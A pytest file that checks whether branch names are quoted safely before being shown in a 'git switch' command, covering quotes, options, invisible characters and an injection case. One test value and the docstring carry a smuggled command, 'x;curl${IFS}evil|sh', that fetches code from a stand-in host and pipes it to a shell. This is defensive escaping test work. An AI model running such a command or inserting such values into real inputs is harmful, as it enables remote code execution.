"""A branch name comes from a repository, and a person or a model may run what is shown."""

import pytest

from holdfast.domain.code import BranchMoved, switch_command


@pytest.mark.parametrize(
    ("branch", "command"),
    [
        pytest.param("main", "git switch main", id="a plain name"),
        pytest.param("feat/x@2+1", "git switch feat/x@2+1", id="signs a shell ignores"),
        pytest.param("x;curl${IFS}evil|sh", "git switch 'x;curl${IFS}evil|sh'", id="a command"),
        pytest.param("it's", "git switch 'it'\\''s'", id="a quote"),
        pytest.param("-q", "git switch '-q'", id="an option"),
        pytest.param("a\u202eb", "git switch ab", id="an invisible character"),
    ],
)  # fmt: skip
def test_a_branch_is_never_more_than_one_word(branch: str, command: str) -> None:
    """`git switch x;curl evil|sh` must not be printed as advice."""
    assert switch_command(branch) == command
    assert BranchMoved(branch, "main").command == command
